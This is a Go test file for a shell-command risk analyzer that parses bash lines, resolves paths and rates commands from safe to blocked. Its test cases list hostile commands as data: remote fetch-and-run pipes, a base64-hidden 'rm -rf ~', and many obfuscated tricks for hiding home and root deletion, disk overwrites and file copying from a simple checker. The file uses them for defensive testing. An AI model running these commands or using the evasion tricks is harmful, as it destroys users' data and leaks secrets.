package shell_test

import (
	"errors"
	"fmt"
	"os/exec"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sayso-dev/sayso/shell"
)

func analysis(t *testing.T, src string) *shell.Analysis {
	t.Helper()
	a, err := shell.Analyze(src, corpusPlace)
	if err != nil {
		t.Fatalf("%s: %v", src, err)
	}
	return a
}

// argvs returns the words of every command.
func argvs(a *shell.Analysis) []string {
	var out []string
	for i := range a.Commands {
		out = append(out, argvText(a.Commands[i].Args))
	}
	return out
}

// TestReach: every command that may run is found, wherever it stands.
func TestReach(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"a; b & c\nd", []string{"a", "b", "c", "d"}},
		{"a && b || c", []string{"a", "b", "c"}},
		{"a | b |& c", []string{"a", "b", "c"}},
		{"(a; b); { c; }", []string{"a", "b", "c"}},
		{"if a; then b; elif c; then d; else e; fi", []string{"a", "b", "c", "d", "e"}},
		{"while a; do b; done; until c; do d; done", []string{"a", "b", "c", "d"}},
		{"for i in x y; do a $i; done", []string{"a x", "a y"}},
		{"for ((i=0; i<$(a); i++)); do b; done", []string{"a", "b"}},
		{"case x in a*) b;; *) c;& esac", []string{"b", "c"}},
		{"f() { a \"$1\"; }; f x", []string{"f x", "a x"}},
		{"f() { a; }", []string{"a"}},
		{"echo `a`", []string{"a", "echo $(…)"}},
		{"cat <<EOF\n$(a)\nEOF", []string{"a", "cat"}},
		{"cat <<'EOF'\n$(a)\nEOF", []string{"cat"}},
		{"cat <<EOF; a\ntext\nEOF", []string{"cat", "a"}},
		{"a <<< \"$(b)\"", []string{"b", "a"}},
		{"[[ -f $(a) ]] && b", []string{"a", "b"}},
		{"x=$(a) y=2 b", []string{"a", "b"}},
		{"echo $(( $(a) + 1 ))", []string{"a", "echo *"}},
		{"echo ${x:-$(a)}", []string{"a", "echo $(…)"}},
		{"a > $(b)", []string{"b", "a"}},
		{"time a; ! b", []string{"a", "b"}},
		{"coproc a", []string{"a"}},
		{"a {1..3} {x,y}z", []string{"a 1 2 3 xz yz"}},
		{"a ~/x ~root/y $HOME", []string{"a /home/dev/x /root/y /home/dev"}},
		{`a $'\x72m\t' "b c" 'd'`, []string{"a rm\t 'b c' d"}},
		{"x='p q'; a $x \"$x\"", []string{"", "a p q 'p q'"}},
		{"set -- p q; a $2 \"$@\"", []string{"set -- p q", "a q p q"}},
		{"arr=(p 'q r'); a \"${arr[@]}\"", []string{"", "a p 'q r'"}},
	}
	for _, tt := range tests {
		if got := argvs(analysis(t, tt.src)); !slices.Equal(got, tt.want) {
			t.Errorf("%s\n got %q\nwant %q", tt.src, got, tt.want)
		}
	}
}

// TestNestedSubstitutions: a substitution stands before the command that uses
// it, the innermost first.
func TestNestedSubstitutions(t *testing.T) {
	a := analysis(t, `a "$(b "$(c)")" <(d) > >(e)`)
	var names []string
	for i := range a.Commands {
		names = append(names, a.Commands[i].Args[0].Text)
	}
	if want := []string{"c", "b", "d", "e", "a"}; !slices.Equal(names, want) {
		t.Errorf("got %q, want %q", names, want)
	}
	for i := range a.Commands[:4] {
		if !a.Commands[i].Nested {
			t.Errorf("%s is not marked as nested", a.Commands[i].Args[0].Text)
		}
	}
}

// TestPlaceInStructure: spans, pipes, background and wrappers.
func TestPlaceInStructure(t *testing.T) {
	src := "x=1 cat a >b | sort & sudo nice ls"
	a := analysis(t, src)
	type at struct {
		text       string
		pipe, of   int
		background bool
		via        int
	}
	var got []at
	for i := range a.Commands {
		c := &a.Commands[i]
		got = append(got, at{src[c.Span.Start:c.Span.End], c.Pipe, c.PipeLen, c.Background, c.Via})
	}
	want := []at{
		{"x=1 cat a >b", 0, 2, true, -1},
		{"sort", 1, 2, true, -1},
		{"sudo nice ls", 0, 1, false, -1},
		{"nice ls", 0, 1, false, 2},
		{"ls", 0, 1, false, 3},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
	first := &a.Commands[0]
	if len(first.Assigns) != 1 || first.Assigns[0].Name != "x" || first.Assigns[0].Value.Text != "1" {
		t.Errorf("assigns: %+v", first.Assigns)
	}
	if len(first.Redirects) != 1 || first.Redirects[0].Op != ">" || first.Redirects[0].Target.Text != "b" {
		t.Errorf("redirects: %+v", first.Redirects)
	}
}

// TestDirectory: cd, pushd and -C move what paths are resolved against.
func TestDirectory(t *testing.T) {
	tests := []struct{ src, access, want string }{
		{"cd sub && touch x", "write", "/home/dev/app/sub/x"},
		{"cd sub; touch x", "write", "/home/dev/app/sub/x"},
		{"cd sub; touch x", "write", "/home/dev/app/x"}, // if cd fails
		{"cd sub || exit; touch x", "write", "/home/dev/app/sub/x"},
		{"(cd sub); touch x", "write", "/home/dev/app/x"},
		{"cd sub | true; touch x", "write", "/home/dev/app/x"},
		{"pushd ../lib && touch x", "write", "/home/dev/lib/x"},
		{"cd && touch x", "write", "/home/dev/x"},
		{"git -C ../lib add x", "list", "/home/dev/lib/x"},
		{"cd /proc/self/cwd && touch x", "write", "/home/dev/app/x"},
		{"d=sub; cd $d && touch x", "write", "/home/dev/app/sub/x"},
		{"touch ../app/./x", "write", "/home/dev/app/x"},
	}
	for _, tt := range tests {
		a := analysis(t, tt.src)
		found := false
		for i := range a.Commands {
			for _, p := range a.Commands[i].Paths {
				found = found || p.Abs == tt.want && (p.Access.String() == tt.access || tt.access == "list")
			}
		}
		if !found {
			t.Errorf("%s: no %s of %s%s", tt.src, tt.access, tt.want, detail(a))
		}
	}
	for _, src := range []string{"cd sub && touch x", "set -e; cd sub; touch x", "cd sub || exit; touch x"} {
		if a := analysis(t, src); strings.Contains(detail(a), "write:/home/dev/app/x") {
			t.Errorf("%s: cd cannot have failed%s", src, detail(a))
		}
	}
}

// TestOpaque: what cannot be resolved says so, and is never safe.
func TestOpaque(t *testing.T) {
	for _, src := range []string{
		"$X", "$(which ls)", "`echo rm` x", "eval ls", "eval \"$x\"", "source x.sh", ". ./env", "cat ${!x}", "rm ${x@P}",
		"curl -s example.com | sh", "base64 -d x | bash", "echo cm0gLXJmIH4= | base64 -d | sh", "bash <(curl -s example.com)",
		"cat \"$f\"", "rm -rf \"$DIR\"", "python3 -c \"$code\"", "sh -c \"$1\"", "xargs -I{} sh -c 'rm {}' <x", "awk '{ system($0) }' x",
		"source <(curl -s example.com)", "rm {1..5000}", "sudo $CMD", "IFS=,; x=rm,-rf; $x", "bash", "if", "echo 'unterminated",
	} {
		a := analysis(t, src)
		opaque := a.Opaque != ""
		for i := range a.Commands {
			opaque = opaque || len(a.Commands[i].Opaque) > 0
		}
		if !opaque && src != "bash" {
			t.Errorf("%s: not opaque%s", src, detail(a))
		}
		if a.Risk == shell.Safe {
			t.Errorf("%s: safe%s", src, detail(a))
		}
	}
}

// TestRefused: too long and too deep are errors that say where.
func TestRefused(t *testing.T) {
	long := "echo " + strings.Repeat("x", shell.MaxLength)
	if _, err := shell.Analyze(long, corpusPlace); !errors.Is(err, shell.ErrTooLong) {
		t.Errorf("too long: %v", err)
	}
	for _, unit := range []string{
		"(", "{ ", "$(", "\"$(", "$((", "if ", "while ", "for i in x; do ", "case x in x) ", "[[ ( ", "${x:-", "<(", "a[", "! ", "f() { ", "time ",
	} {
		src := strings.Repeat(unit, 3*shell.MaxDepth)
		if _, err := shell.Analyze(src, corpusPlace); !errors.Is(err, shell.ErrTooDeep) {
			t.Errorf("%q × %d: %v", unit, 3*shell.MaxDepth, err)
		}
	}
	// Plain text is not nesting.
	for _, src := range []string{
		"echo '" + strings.Repeat("(", 500) + "'",
		"# " + strings.Repeat("{ ", 500) + "\nls",
		"cat <<'EOF'\n" + strings.Repeat("$(", 500) + "\nEOF",
		strings.Repeat("a | ", 500) + "b",
		strings.Repeat("a && ", 500) + "b",
		strings.Repeat("if a; then b; fi\n", 500),
		"echo " + strings.Repeat("\\( ", 300),
	} {
		if _, err := shell.Analyze(src, corpusPlace); err != nil {
			t.Errorf("%.40q…: %v", src, err)
		}
	}
	for _, at := range []shell.Place{{}, {Dir: "x"}, {Dir: "/", Home: "x"}, {Dir: "/", Workspace: []string{"x"}}} {
		if _, err := shell.Analyze("ls", at); !errors.Is(err, shell.ErrPlace) {
			t.Errorf("%+v: %v", at, err)
		}
	}
}

// TestWorkspace: changes count as inside by path component, in any of the
// folders, and named children of the temp folders too.
func TestWorkspace(t *testing.T) {
	at := shell.Place{Dir: "/home/dev/app", Home: "/home/dev", Workspace: []string{"/home/dev/app", "/home/dev/lib"}}
	for src, want := range map[string]shell.Risk{
		"touch x":              shell.Moderate,
		"touch ../lib/x":       shell.Moderate,
		"touch ../library/x":   shell.Dangerous,
		"touch ../app2/x":      shell.Dangerous,
		"touch /tmp/x":         shell.Moderate,
		"rm -rf /tmp/x/y":      shell.Moderate,
		"rm -rf /tmp":          shell.Dangerous,
		"rm -rf /tmp/*":        shell.Dangerous,
		"rm -rf /tmp/../etc/x": shell.Dangerous,
		"rm -rf ../lib/x":      shell.Moderate,
		"rm -rf .":             shell.Dangerous,
		"rm -rf ..":            shell.Blocked,
	} {
		a, err := shell.Analyze(src, at)
		if err != nil {
			t.Fatal(err)
		}
		if a.Risk != want {
			t.Errorf("%s: %v, want %v%s", src, a.Risk, want, detail(a))
		}
	}
}

// TestImports: the package is a leaf. It imports the standard library and the
// parser, and nothing else of this module but its own tables.
func TestImports(t *testing.T) {
	out, err := exec.Command("go", "list", "-deps", "-f", "{{if not .Standard}}{{.ImportPath}}{{end}}", ".").Output()
	if err != nil {
		t.Fatal(err)
	}
	const self = "github.com/sayso-dev/sayso/shell"
	for _, pkg := range strings.Fields(string(out)) {
		if !strings.HasPrefix(pkg, "mvdan.cc/sh/v3/") && pkg != self && pkg != self+"/internal/table" {
			t.Errorf("imports %s", pkg)
		}
	}
}

// TestNeverSafe: lines that hide what they run from an analysis that is too
// simple. Each of them really runs it.
func TestNeverSafe(t *testing.T) {
	tests := []struct {
		src  string
		want shell.Risk // at most
	}{
		{"echo " + strings.Repeat("a ", 1001) + "$(rm -rf ~)", shell.Blocked},
		{"for i in " + strings.Repeat("a ", 1001) + "$(rm -rf ~); do :; done", shell.Blocked},
		{"echo ${x^^$(rm -rf ~)}", shell.Blocked},
		{"[[ a == @($(rm -rf ~)|b) ]]", shell.Blocked},
		{"return; rm -rf ~", shell.Blocked},
		{"exit >/nowhere/x; rm -rf ~", shell.Blocked},
		{`awk 'BEGIN{x = /"/; system("rm -rf ~")}'`, shell.Dangerous},
		{`awk '{print /"/; system("rm -rf ~")}' f`, shell.Dangerous},
		{"x=a; f() { (local x=b); x=/; }; f; rm -rf $x", shell.Dangerous},
		{"x='a[$(rm -rf ~)]'; ((x))", shell.Blocked},
		{"x='a[$(rm -rf ~)]'; [[ $x -eq 0 ]]", shell.Blocked},
		{"p='$(rm -rf ~)'; echo \"${p@P}\"", shell.Blocked},
		{"declare -i n; n='b[$(rm -rf ~)]'", shell.Blocked},
		{"rm -rf $(if true; then echo /; fi)", shell.Dangerous},
		{"rm -rf $(<list)", shell.Dangerous},
		{"setsid -w rm -rf /", shell.Blocked},
		{"D=build; sh -c 'rm -rf \"$D\"/*'", shell.Dangerous},
		{"export d=build; env d=/ sh -c 'rm -rf $d'", shell.Blocked},
		{"d=build; f() { rm -rf \"$d\"; }; d=/ f", shell.Blocked},
		{"d=/; f() { local d=build; }; f; rm -rf $d", shell.Blocked},
		{"d=build; trap 'rm -rf \"$d\"' EXIT; d=/", shell.Blocked},
		{"t=x; declare -n r=t; r=/; rm -rf $t", shell.Blocked},
		{"set -- rm -rf /; sh -c \"$*\"", shell.Blocked},
		{"bash /dev/stdin <<< 'rm -rf ~'", shell.Blocked},
		{"E=; rm ${E+-rf /}", shell.Blocked},
		{"printf 'x,/' | xargs -d, rm -rf", shell.Blocked},
		{"printf 'x\\0/\\0' | xargs -0 rm -rf", shell.Blocked},
		{"echo safe / | xargs -n1 sh -c 'rm -rf \"$1\"' _", shell.Blocked},
		{"find . ! -name '*.tmp' -delete", shell.Dangerous},
		{"command cd /; rm -rf etc", shell.Blocked},
		{"set -- -e; cd /etc/x; rm -rf foo", shell.Dangerous},
		{"cd /etc; ! cd /tmp/x && rm -rf foo", shell.Dangerous},
		{"x=a; g() { x=/; }; while true; do rm -rf $x; g; done", shell.Dangerous},
		{"g() { cd /; }; while :; do rm -rf build; g; done", shell.Dangerous},
		{"f() { if [ \"$1\" = a ]; then f /; else rm -rf \"$1\"; fi; }; f a", shell.Dangerous},
		{"if true; then alias ls='rm -rf /'; fi; ls", shell.Blocked},
		{"/opt/x/y > /dev/sda", shell.Blocked},
		{". /tmp/evil/bin/activate", shell.Dangerous},
		{"kubectl exec p -- rm -rf /", shell.Blocked},
		{"scp secret.txt h:b", shell.Dangerous},
	}
	for _, tt := range tests {
		a := analysis(t, tt.src)
		if a.Risk > tt.want {
			t.Errorf("%.120s: %v, want %v%s", tt.src, a.Risk, tt.want, detail(a))
		}
	}
}

// TestGrowth: values that double with each assignment, and other small inputs
// with a large effect, are cut off.
func TestGrowth(t *testing.T) {
	for _, src := range []string{
		"a=xxxxxxxxxx; " + strings.Repeat("a=$a$a; ", 60) + "rm $a",
		"a=x; " + strings.Repeat("a=\"$a $a\"; ", 60) + "rm $a",
		"a=x; " + strings.Repeat("a=$(echo $a$a); ", 40) + "rm $a",
		"a=(x); " + strings.Repeat("a=(\"${a[@]}\" \"${a[@]}\"); ", 40) + "rm \"${a[@]}\"",
		strings.Repeat("for i in a b c d e f g h; do ", 12) + "rm $i" + strings.Repeat("; done", 12),
		strings.Repeat("f() { g; g; }; g() { f; f; }; ", 8) + "f",
		"echo " + strings.Repeat("{a,b}", 40),
	} {
		a := analysis(t, src)
		if a.Risk == shell.Safe && !strings.HasPrefix(src, "echo") {
			t.Errorf("%.60s…: safe", src)
		}
	}
}

// TestHostile: the longest texts that were made to keep the analysis busy end;
// BenchmarkHostile says when.
func TestHostile(t *testing.T) {
	for name, src := range hostile() {
		if a := analysis(t, src); len(a.Commands) == 0 {
			t.Errorf("%s: no commands", name)
		}
	}
}

// TestConcurrent: analyses share nothing but the tables.
func TestConcurrent(t *testing.T) {
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for _, src := range fuzzSeeds {
				a, err := shell.Analyze(src, corpusPlace)
				if err != nil || a.Explain() == "" {
					t.Errorf("%s: %v", src, err)
				}
			}
		})
	}
	wg.Wait()
}

// TestElsewhere: what runs on another machine or in a container says so, however
// deep it is wrapped there, and the folder it works in is not known.
func TestElsewhere(t *testing.T) {
	for _, src := range []string{"ssh host sudo nice touch x", "docker exec c sh -c 'env touch x'", "kubectl exec pod -- timeout 5 touch x"} {
		a := analysis(t, src)
		for i := range a.Commands {
			c := &a.Commands[i]
			if want := i > 0; c.Elsewhere != want || want && c.Dir != "" {
				t.Errorf("%s: %s: elsewhere %v in %q", src, argvText(c.Args), c.Elsewhere, c.Dir)
			}
		}
		if a.Risk > shell.Dangerous {
			t.Errorf("%s: %v%s", src, a.Risk, detail(a))
		}
	}
}

// An analysis is the caller's own: the memory that analyses share must not show
// through when later ones use it again.
func TestResultIsOwn(t *testing.T) {
	lines := []string{
		"git status", "cat a b | grep -r x . | head -1", `for f in *.js; do wc -c "$f"; done`, "sudo env A=1 sh -c 'rm -rf build; curl https://example.com/x -o y'",
		"f() { echo $1; }; f a; f b", "trap 'rm x' EXIT; cd /tmp && ls", "alias ll='ls -l'; ll x",
	}
	analyse := func(line string) *shell.Analysis {
		a, err := shell.Analyze(line, corpusPlace)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	var first []string
	var kept []*shell.Analysis
	for _, line := range lines {
		a := analyse(line)
		kept = append(kept, a)
		first = append(first, fmt.Sprintf("%+v", a))
	}
	for range 20 {
		for _, line := range lines {
			analyse(line)
		}
	}
	for i, a := range kept {
		if now := fmt.Sprintf("%+v", a); now != first[i] {
			t.Errorf("%s: was\n%s\nis\n%s", lines[i], first[i], now)
		}
	}
}
